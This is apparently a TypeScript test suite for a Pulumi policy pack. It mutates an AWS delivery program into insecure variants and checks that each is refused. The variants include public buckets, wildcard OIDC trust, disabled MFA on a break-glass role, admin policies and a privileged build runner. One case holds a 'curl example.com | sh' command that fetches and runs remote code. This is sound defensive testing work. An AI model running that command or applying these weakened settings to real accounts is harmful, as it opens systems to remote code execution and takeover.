import { parseDelivery } from "../../../delivery/config.ts";
import { policies } from "../../../policies/delivery/judging.ts";
import { deliveryWorld } from "../../../policies/delivery/world.ts";
import { examplesOf, judged, NOW, type View } from "../../support/delivery-examples.ts";
import { ACCOUNT, CONFIG, RUNNER, rawDelivery, recordDelivery } from "../../support/delivery-program.ts";
import type { Recorded } from "../../support/recorder.ts";

const ALL = {
  ...CONFIG,
  runner: RUNNER,
  pulumiCloud: { organization: "sparki", image: `ghcr.io/alexarno/deployments@sha256:${"a1".repeat(32)}` },
};
const OTHERS = "444455556666";
const ROLE = "aws:iam/role:Role";
const GITHUB = "token.actions.githubusercontent.com";

const CLOSED_WORLD = policies.filter(({ name }) => name === "declared-only");

type Resources = readonly Recorded[];
type Change = (all: Resources) => Resources;

let program: Resources = [];
beforeAll(async () => {
  program = (await recordDelivery(ALL)).resources;
});

/** The resource of that logical name with some inputs changed; undefined takes one out. */
const set =
  (name: string, changes: object): Change =>
  (all) =>
    altered(all, name, (one) => {
      const inputs = Object.entries({ ...one.inputs, ...changes }).filter(([, value]) => value !== undefined);
      return { ...one, inputs: Object.fromEntries(inputs) };
    });
const drop =
  (name: string): Change =>
  (all) =>
    altered(all, name, () => undefined);
const add =
  (type: string, name: string, inputs: object): Change =>
  (all) => [...all, { type, name, inputs: { ...inputs } }];
/** A word in the JSON text of a property in place of another, everywhere. */
const say =
  (name: string, property: string, was: string, is: string): Change =>
  (all) =>
    altered(all, name, (one) => {
      const text = String(one.inputs[property]);
      if (!text.includes(was)) throw new Error(`${name}.${property} does not have ${was}: ${text}`);
      return { ...one, inputs: { ...one.inputs, [property]: text.replaceAll(was, is) } };
    });
/** Statements of a document changed. */
const state =
  (name: string, property: string, change: (statements: Statement[]) => unknown[]): Change =>
  (all) =>
    altered(all, name, (one) => {
      const document: { Statement: Statement[] } = JSON.parse(String(one.inputs[property]));
      const policy = JSON.stringify({ ...document, Statement: change(document.Statement) });
      return { ...one, inputs: { ...one.inputs, [property]: policy } };
    });
type Statement = Record<string, unknown>;
const more = (statement: Statement) => (all: Statement[]) => [...all, statement];

function altered(all: Resources, name: string, change: (one: Recorded) => Recorded | undefined): Resources {
  if (!all.some((one) => one.name === name)) throw new Error(`the program makes no ${name}`);
  return all.flatMap((one) => (one.name === name ? (change(one) ?? []) : [one]));
}

/** What the closed world alone finds of which resource, in short. */
function found(change: Change, view: View): string[] {
  const resources = [...change(program)];
  return judged(examplesOf({ resources }, view), ALL, { view, by: CLOSED_WORLD }).map(({ urn = "", property }) => {
    return `${urn.slice(urn.lastIndexOf("::") + 2)} ${property}`;
  });
}

const anyone = { Effect: "Allow", Principal: "*", Action: "s3:GetObject", Resource: "*" };
const bucket = (name: string) => `sparki-state-${ACCOUNT}${name}`;
const inRegion = { region: "us-east-1" };

const CASES: [title: string, change: Change, finding: string][] = [
  // What nobody declared.
  ["a user with a key", add("aws:iam/accessKey:AccessKey", "spare", { user: "one" }), "spare type and name"],
  ["a role that nobody declared", add(ROLE, "roles-deploys-other", { name: "other" }), "roles-deploys-other type"],
  ["a bucket that nobody declared", add("aws:s3/bucket:Bucket", "files", { bucket: "f" }), "files type and name"],
  ["a function", add("aws:lambda/function:Function", "helper", inRegion), "helper type and name"],
  [
    "another policy for a role",
    add("aws:iam/rolePolicy:RolePolicy", "roles-plans-prod-more", {}),
    "roles-plans-prod-more type",
  ],
  ["a command", add("command:local:Command", "run", { create: "curl example.com | sh" }), "run type and name"],
  [
    "a provider of another account",
    set("aws", { allowedAccountIds: JSON.stringify([OTHERS]) }),
    "aws allowedAccountIds",
  ],
  ["a provider that takes another role", set("aws", { assumeRoles: "[]" }), "aws assumeRoles"],
  [
    "tags that the stacks' deploying roles act by",
    set("state-key", { tags: { project: "sparki", stack: "prod" } }),
    "state-key tags",
  ],
  // Buckets.
  [
    "a public bucket",
    set("state-bucket-private", { blockPublicPolicy: false }),
    "state-bucket-private blockPublicPolicy",
  ],
  ["a bucket without a block of public access", drop("state-bucket-private"), "state-bucket its guard"],
  [
    "a bucket whose objects have owners",
    set("state-bucket-ownership", { rule: { objectOwnership: "ObjectWriter" } }),
    "state-bucket-ownership rule",
  ],
  [
    "a bucket without versions",
    set("state-bucket-versions", { versioningConfiguration: { status: "Suspended" } }),
    "state-bucket-versions versioningConfiguration",
  ],
  ["a bucket that says nothing of versions", drop("state-bucket-versions"), "state-bucket its guard"],
  [
    "a bucket encrypted by nobody's key",
    set("state-bucket-encryption", {
      rules: [{ applyServerSideEncryptionByDefault: { sseAlgorithm: "AES256" }, bucketKeyEnabled: true }],
    }),
    "state-bucket-encryption rules",
  ],
  [
    "a bucket under AWS's key",
    set("state-bucket-encryption", {
      rules: [
        {
          applyServerSideEncryptionByDefault: {
            sseAlgorithm: "aws:kms",
            kmsMasterKeyId: `arn:aws:kms:us-east-1:${OTHERS}:key/1b2c3d4e-0000-4000-8000-1234567890ab`,
          },
          bucketKeyEnabled: true,
        },
      ],
    }),
    "state-bucket-encryption rules",
  ],
  ["a bucket whose encryption is left to AWS", drop("state-bucket-encryption"), "state-bucket its guard"],
  [
    "a bucket that is asked in plain text",
    state("state-bucket-policy", "policy", () => [anyone]),
    "state-bucket-policy policy",
  ],
  ["a bucket that anyone reads", state("state-bucket-policy", "policy", more(anyone)), "state-bucket-policy policy"],
  [
    "a bucket that another account reads",
    state("state-bucket-policy", "policy", more({ ...anyone, Principal: { AWS: `arn:aws:iam::${OTHERS}:root` } })),
    "state-bucket-policy policy",
  ],
  ["a bucket that Pulumi empties", set("state-bucket", { forceDestroy: true }), "state-bucket forceDestroy"],
  [
    "versions that end after a day",
    set("state-bucket-lifecycle", {
      rules: [
        { id: "old-versions", status: "Enabled", filter: {}, noncurrentVersionExpiration: { noncurrentDays: 1 } },
      ],
    }),
    "state-bucket-lifecycle rules",
  ],
  [
    "a copy in a bucket of somebody else's",
    set("state-copies", { rules: [{ destination: { bucket: "arn:aws:s3:::theirs" } }] }),
    "state-copies rules",
  ],
  ["no copy where the config names a second region", drop("state-copies"), "state-bucket its guard"],
  ["another name for the state's bucket", set("state-bucket", { bucket: bucket("-2") }), "state-bucket bucket"],
  // Logs of what was done.
  [
    "logs without the days that they are kept",
    drop("account-audit-bucket-lifecycle"),
    "account-audit-bucket its guard",
  ],
  [
    "logs that are kept a week",
    set("account-audit-bucket-lifecycle", { rules: [] }),
    "account-audit-bucket-lifecycle rules",
  ],
  ["a trail of one region", set("account-trail", { isMultiRegionTrail: false }), "account-trail isMultiRegionTrail"],
  ["a trail that is off", set("account-trail", { enableLogging: false }), "account-trail enableLogging"],
  [
    "a trail whose files can be changed",
    set("account-trail", { enableLogFileValidation: false }),
    "account-trail enableLogFileValidation",
  ],
  ["no trail where the config switches one on", drop("account-trail"), "sparki-delivery-prod its guard"],
  ["a trail in plain text", set("account-trail", { kmsKeyId: undefined }), "account-trail kmsKeyId"],
  [
    "a log that other accounts write to",
    say("account-audit-bucket-policy", "policy", `:${ACCOUNT}:trail`, `:${OTHERS}:trail`),
    "account-audit-bucket-policy policy",
  ],
  [
    "a recorder of some resources",
    set("account-config", { recordingGroup: { allSupported: false } }),
    "account-config recordingGroup",
  ],
  ["a detector that is off", set("account-guardduty", { enable: false }), "account-guardduty enable"],
  ["a detector that tells nobody", drop("alarms-guardduty-told"), "account-guardduty its guard"],
  // Keys.
  ["a key that does not rotate", set("state-key", { enableKeyRotation: false }), "state-key enableKeyRotation"],
  [
    "a key that is gone in a week",
    set("state-secrets-prod", { deletionWindowInDays: 7 }),
    "state-secrets-prod deletionWindowInDays",
  ],
  [
    "a key of another account's administrators",
    say("state-key", "policy", `${ACCOUNT}:root`, `${OTHERS}:root`),
    "state-key policy",
  ],
  [
    "a key that anyone uses",
    state(
      "state-key",
      "policy",
      more({ Effect: "Allow", Principal: { AWS: "*" }, Action: "kms:Decrypt", Resource: "*" }),
    ),
    "state-key policy",
  ],
  [
    "a key that a deploying role may change",
    state("state-secrets-prod", "policy", (all) => all.slice(0, 1)),
    "state-secrets-prod policy",
  ],
  [
    "a key that a service of any account uses",
    state("alarms-key", "policy", (all) => all.map(({ Condition: _, ...one }) => one)),
    "alarms-key policy",
  ],
  [
    "an alias for a key of somebody else's",
    set("state-key-alias", { targetKeyId: `arn:aws:kms:us-east-1:${OTHERS}:key/x` }),
    "state-key-alias targetKeyId",
  ],
  // Who is trusted.
  [
    "any repository",
    say("roles-plans-prod", "assumeRolePolicy", "repo:alexarno/sparki-deploy:", "repo:*:"),
    "roles-plans-prod assumeRolePolicy",
  ],
  [
    "any branch, by a pattern",
    (all) =>
      say(
        "roles-deploys-prod",
        "assumeRolePolicy",
        "StringEquals",
        "StringLike",
      )(say("roles-deploys-prod", "assumeRolePolicy", "environment:production", "*")(all)),
    "roles-deploys-prod assumeRolePolicy",
  ],
  [
    "a pull request for the role that deploys",
    say("roles-deploys-prod", "assumeRolePolicy", "environment:production", "pull_request"),
    "roles-deploys-prod assumeRolePolicy",
  ],
  [
    "another environment",
    say("roles-deploys-prod", "assumeRolePolicy", "environment:production", "environment:staging"),
    "roles-deploys-prod assumeRolePolicy",
  ],
  [
    "another branch's workflow",
    say("roles-deploys-prod", "assumeRolePolicy", "deploy-stack.yml@refs/heads/main", "deploy-stack.yml@refs/heads/x"),
    "roles-deploys-prod assumeRolePolicy",
  ],
  [
    "no branch",
    say("roles-deploys-prod", "assumeRolePolicy", `"${GITHUB}:ref":"refs/heads/main",`, ""),
    "roles-deploys-prod assumeRolePolicy",
  ],
  [
    "a fork's repository",
    say("roles-plans-prod", "assumeRolePolicy", "alexarno/", "stranger/"),
    "roles-plans-prod assumeRolePolicy",
  ],
  [
    "another audience",
    say("roles-plans-prod", "assumeRolePolicy", '"sts.amazonaws.com"', '"example.com"'),
    "roles-plans-prod assumeRolePolicy",
  ],
  [
    "another issuer",
    say("roles-plans-prod", "assumeRolePolicy", `oidc-provider/${GITHUB}`, "oidc-provider/example.com"),
    "roles-plans-prod assumeRolePolicy",
  ],
  [
    "another workflow for the role that drills",
    say("roles-drills-prod", "assumeRolePolicy", "workflows/drill.yml", "workflows/pull-request.yml"),
    "roles-drills-prod assumeRolePolicy",
  ],
  ["no alarm where backups end", drop("alarms-backups"), "its guard"],
  [
    "another account's user",
    state(
      "roles-deploys-prod",
      "assumeRolePolicy",
      more({ Effect: "Allow", Principal: { AWS: `arn:aws:iam::${OTHERS}:root` }, Action: "sts:AssumeRole" }),
    ),
    "roles-deploys-prod assumeRolePolicy",
  ],
  [
    "another organization of Pulumi Cloud",
    say("roles-deploys-prod", "assumeRolePolicy", "org:sparki:", "org:other:"),
    "roles-deploys-prod assumeRolePolicy",
  ],
  [
    "a destroy by Pulumi Cloud that the config does not set",
    say("roles-deploys-prod", "assumeRolePolicy", "operation:detect-drift", "operation:destroy"),
    "roles-deploys-prod assumeRolePolicy",
  ],
  ["an identity provider of somebody else's", set("roles-github", { url: "https://example.com" }), "roles-github url"],
  [
    "more audiences",
    set("roles-github", { clientIdLists: ["sts.amazonaws.com", "example.com"] }),
    "roles-github clientIdLists",
  ],
  [
    "a service for any account",
    state("account-config-role", "assumeRolePolicy", (all) => all.map((one) => ({ ...one, Condition: {} }))),
    "account-config-role assumeRolePolicy",
  ],
  [
    "a session of twelve hours",
    set("roles-deploys-prod", { maxSessionDuration: 43_200 }),
    "roles-deploys-prod maxSessionDuration",
  ],
  // What they may do.
  [
    "every action",
    state("roles-deploys-prod-network-1", "policy", more({ Effect: "Allow", Action: "*", Resource: "*" })),
    "roles-deploys-prod-network-1 policy",
  ],
  [
    "one more action",
    say("roles-deploys-prod-cluster", "policy", '"iam:CreateRole"', '"iam:CreateRole","iam:CreateUser"'),
    "roles-deploys-prod-cluster policy",
  ],
  [
    "roles without the boundary",
    say("roles-deploys-prod-cluster", "policy", "iam:PermissionsBoundary", "aws:PrincipalTag/any"),
    "roles-deploys-prod-cluster policy",
  ],
  [
    "a boundary that allows more",
    state(
      "roles-deploys-prod-permission-boundary",
      "policy",
      more({ Effect: "Allow", Action: "iam:*", Resource: "*" }),
    ),
    "roles-deploys-prod-permission-boundary policy",
  ],
  ["no boundary", drop("roles-deploys-prod-permission-boundary"), "roles-deploys-prod its guard"],
  ["no guard", drop("roles-deploys-prod-guard-attached"), "roles-deploys-prod its guard"],
  [
    "a deploying role that administers",
    set("roles-deploys-prod-guard-attached", { policyArn: "arn:aws:iam::aws:policy/AdministratorAccess" }),
    "roles-deploys-prod-guard-attached policyArn",
  ],
  [
    "a planning role that writes",
    set("roles-plans-prod-reads", { policyArn: "arn:aws:iam::aws:policy/PowerUserAccess" }),
    "roles-plans-prod-reads policyArn",
  ],
  // Break-glass.
  [
    "no second factor",
    say(
      "break-glass-role",
      "assumeRolePolicy",
      '"aws:MultiFactorAuthPresent":"true"',
      '"aws:MultiFactorAuthPresent":"false"',
    ),
    "break-glass-role assumeRolePolicy",
  ],
  [
    "a second factor of yesterday",
    say("break-glass-role", "assumeRolePolicy", '"900"', '"86400"'),
    "break-glass-role assumeRolePolicy",
  ],
  [
    "somebody whom the config does not name",
    say("break-glass-role", "assumeRolePolicy", "user/one", "user/two"),
    "break-glass-role assumeRolePolicy",
  ],
  [
    "a region whose alarm tells nobody",
    say("break-glass-role", "assumeRolePolicy", "us-east-1", "eu-west-1"),
    "break-glass-role assumeRolePolicy",
  ],
  ["break-glass without its alarm", drop("alarms-break-glass"), "break-glass-role its guard"],
  ["an alarm without a target", drop("alarms-break-glass-told"), "break-glass-role its guard"],
  ["an alarm that sleeps", set("alarms-break-glass", { state: "DISABLED" }), "alarms-break-glass state"],
  [
    "an alarm on another role",
    say("alarms-break-glass", "eventPattern", "break-glass-sparki", "other"),
    "alarms-break-glass eventPattern",
  ],
  [
    "an alarm that somebody else gets",
    set("alarms-platform@sparki.tools", { endpoint: "x@example.com" }),
    "alarms-platform@sparki.tools endpoint",
  ],
  ["an alarm that somebody is not told of", drop("alarms-platform@sparki.tools"), "alarms-topic its guard"],
  ["a topic in plain text", set("alarms-topic", { kmsMasterKeyId: undefined }), "alarms-topic kmsMasterKeyId"],
  [
    "a topic that anyone writes to",
    state("alarms-policy", "policy", (all) => all.map(({ Condition: _, ...one }) => one)),
    "alarms-policy policy",
  ],
  [
    "a topic of the caches that anyone writes to",
    state("cache-events-policy", "policy", (all) => all.map(({ Condition: _, ...one }) => one)),
    "cache-events-policy policy",
  ],
  [
    "mails of the caches that leave failed snapshots out",
    set("cache-events-platform@sparki.tools", { filterPolicy: '{"ElastiCache:SnapshotFailed":[{"exists":false}]}' }),
    "cache-events-platform@sparki.tools filterPolicy",
  ],
  ["caches of which somebody is not told", drop("cache-events-platform@sparki.tools"), "cache-events-topic its guard"],
  ["a budget beyond the config", set("account-budget", { limitAmount: "250000" }), "account-budget limitAmount"],
  ["a budget that tells nobody", set("account-budget", { notifications: [] }), "account-budget notifications"],
  // The runner.
  [
    "a privileged runner",
    set("runner-project", {
      environment: {
        type: "LINUX_CONTAINER",
        computeType: "BUILD_GENERAL1_MEDIUM",
        image: "aws/codebuild/standard:7.0",
        privilegedMode: true,
      },
    }),
    "runner-project environment.privilegedMode",
  ],
  [
    "a runner of another image",
    set("runner-project", {
      environment: { type: "LINUX_CONTAINER", computeType: "BUILD_GENERAL1_MEDIUM", image: "example/any:latest" },
    }),
    "runner-project environment.image",
  ],
  ["a runner outside of the network", set("runner-project", { vpcConfig: undefined }), "runner-project vpcConfig"],
  [
    "a runner of another repository",
    set("runner-project", { source: { type: "GITHUB", location: "https://github.com/stranger/x.git" } }),
    "runner-project source",
  ],
  [
    "a way in",
    add("aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule", "runner-in", { cidrIpv4: "0.0.0.0/0" }),
    "runner-in type and name",
  ],
  [
    "a runner in the group of the cluster's pods",
    set("runner-project", {
      vpcConfig: { vpcId: RUNNER.vpcId, subnets: RUNNER.subnetIds, securityGroupIds: ["sg-0fedcba987654321"] },
    }),
    "runner-project vpcConfig.securityGroupIds",
  ],
  [
    "a group of its own for the runner",
    add("aws:ec2/securityGroup:SecurityGroup", "runner-group", { vpcId: RUNNER.vpcId }),
    "runner-group type and name",
  ],
  [
    "a runner with rights in the account",
    state("runner-role-policy", "policy", more({ Effect: "Allow", Action: ["sts:AssumeRole"], Resource: ["*"] })),
    "runner-role-policy policy",
  ],
  [
    "a runner that makes log groups itself",
    state("runner-role-policy", "policy", more({ Effect: "Allow", Action: ["logs:CreateLogGroup"], Resource: ["*"] })),
    "runner-role-policy policy",
  ],
  ["a runner's logs that never end", set("runner-logs", { retentionInDays: undefined }), "runner-logs retentionInDays"],
  ["a runner's logs under no key", set("runner-logs", { kmsKeyId: undefined }), "runner-logs kmsKeyId"],
  ["a runner whose logs are nobody's", drop("runner-logs"), "runner-project its guard"],
  [
    "a runner that writes elsewhere",
    set("runner-project", { logsConfig: { cloudwatchLogs: { status: "ENABLED", groupName: "/aws/elsewhere" } } }),
    "runner-project logsConfig",
  ],
  ["a runner that writes nothing", set("runner-project", { logsConfig: undefined }), "runner-project logsConfig"],
  ["jobs for every push", set("runner-jobs", { filterGroups: [] }), "runner-jobs filterGroups"],
  // Pulumi Cloud.
  [
    "a deployment without the policies",
    (all) =>
      altered(all, "pulumi-cloud-deploys-prod", (one) => ({
        ...one,
        inputs: JSON.parse(JSON.stringify(one.inputs).replace('"PULUMI_OPTION_POLICY_PACK":"policies"', '"A":"b"')),
      })),
    "pulumi-cloud-deploys-prod operationContext",
  ],
  [
    "a deployment of another branch",
    set("pulumi-cloud-deploys-prod", { sourceContext: { git: { branch: "refs/heads/x", repoDir: "." } } }),
    "pulumi-cloud-deploys-prod sourceContext",
  ],
  [
    "drift that is taken back",
    set("pulumi-cloud-drift-prod", { autoRemediate: true }),
    "pulumi-cloud-drift-prod autoRemediate",
  ],
  [
    "Pulumi Cloud at another address",
    set("pulumi-cloud-api", { apiUrl: "https://example.com" }),
    "pulumi-cloud-api apiUrl",
  ],
];

describe("the policies of delivery", () => {
  it("find nothing in the program as it is", () => {
    for (const view of ["preview", "update"] satisfies View[]) expect(found((all) => all, view)).toEqual([]);
  });

  it.each(CASES)("refuse %s", (_title, change, finding) => {
    expect(found(change, "preview")).toContainEqual(expect.stringContaining(finding));
  });

  it("refuse in the update what a preview could not know: more in a document made of keys, and a key of another account", () => {
    const cases: [Change, string][] = [
      [
        state("roles-plans-prod-state", "policy", more({ Effect: "Allow", Action: ["s3:PutObject"], Resource: ["*"] })),
        "roles-plans-prod-state policy",
      ],
      [say("roles-deploys-prod-state", "policy", "stacks/sparki/prod.json*", "*"), "roles-deploys-prod-state policy"],
      [
        say(
          "roles-deploys-prod-state",
          "policy",
          "arn:aws:test:us-east-1:111122223333:state-key",
          `arn:aws:kms:us-east-1:${OTHERS}:key/1`,
        ),
        "roles-deploys-prod-state policy",
      ],
      [say("state-copy-role-policy", "policy", "s3:ReplicateTags", "s3:*"), "state-copy-role-policy policy"],
      // A drill that may delete the live database, or change it.
      [
        say("roles-drills-prod-state", "policy", "db:sparki-prod-drill-*", "db:sparki-prod-*"),
        "roles-drills-prod-state policy",
      ],
      [
        state("roles-drills-prod-state", "policy", more({ ...anyone, Action: "rds:ModifyDBInstance" })),
        "roles-drills-prod-state policy",
      ],
    ];
    for (const [change, finding] of cases)
      expect(found(change, "update")).toContainEqual(expect.stringContaining(finding));
  });

  it("refuse the account's own key where another one is declared", () => {
    const other = "arn:aws:kms:us-east-1:111122223333:key/1b2c3d4e-0000-4000-8000-1234567890ab";
    expect(found(set("account-trail", { kmsKeyId: other }), "update")).toContainEqual(
      expect.stringContaining("account-trail kmsKeyId"),
    );
  });

  it("refuse a bucket of states and a key that lose their protection, and options that hide a change", () => {
    const options = { ignoreChanges: [], aliases: [], additionalSecretOutputs: [], customTimeouts: {} };
    const with_ = (name: string, changes: object) => {
      const all = examplesOf({ resources: [...program] }, "preview");
      const optioned = all.map((one) =>
        one.traits.name === name ? one.optioned({ ...options, protect: true, ...changes }) : one,
      );
      return judged(optioned, ALL, { view: "preview" }).map(({ property }) => property);
    };
    expect(with_("state-bucket", {})).toEqual([]);
    for (const name of ["state-bucket", "state-key", "state-secrets-prod"])
      expect(with_(name, { protect: false })).toEqual(["option protect (declared: true)"]);
    expect(with_("state-bucket-policy", { ignoreChanges: ["policy"] })).toEqual([
      "option ignoreChanges (declared: none)",
    ]);
    expect(with_("state-key", { aliases: ["x"] })).toEqual(["option aliases (declared: none)"]);
    expect(with_("state-key", { deleteBeforeReplace: true })).toHaveLength(1);
    expect(with_("state-key", { customTimeouts: { create: 1 } })).toHaveLength(1);
  });

  it("refuse a resource under a provider that is not declared", () => {
    const all = examplesOf({ resources: [...program] }, "preview");
    const under = (props: Record<string, unknown>) =>
      judged(
        all.map((one) => (one.traits.name === "state-key" ? one.under({ type: "pulumi:providers:aws", props }) : one)),
        ALL,
        { view: "preview" },
      ).map(({ property }) => property);
    const own = program.find(({ name }) => name === "aws")?.inputs ?? {};
    expect(under(own)).toEqual([]);
    expect(under({ ...own, allowedAccountIds: JSON.stringify([OTHERS]) })).toEqual(["provider"]);
    expect(under({})).toEqual(["provider"]);
  });

  it("refuse an output that leads elsewhere or that nobody declared", () => {
    const world = deliveryWorld(parseDelivery(rawDelivery(ALL), "prod", { now: NOW.getTime() }), "prod");
    const wrong = (outputs: Record<string, unknown>) =>
      world
        .outputMismatches(outputs, world.worldOf({ stack: "prod", config: Object.create(null) }))
        .map(({ path }) => path);
    const role = (name: string) => `arn:aws:iam::${ACCOUNT}:role/${name}`;
    expect(
      wrong({ breakGlassRole: role("break-glass-sparki"), deployingRoles: { prod: role("deploys-sparki-prod") } }),
    ).toEqual([]);
    expect(wrong({ deployingRoles: { prod: role("break-glass-sparki") } })).toEqual(["deployingRoles.prod"]);
    expect(wrong({ backendUrl: "s3://theirs" })).toEqual(["backendUrl"]);
    expect(wrong({ password: "x" })).toEqual(["password"]);
  });
});
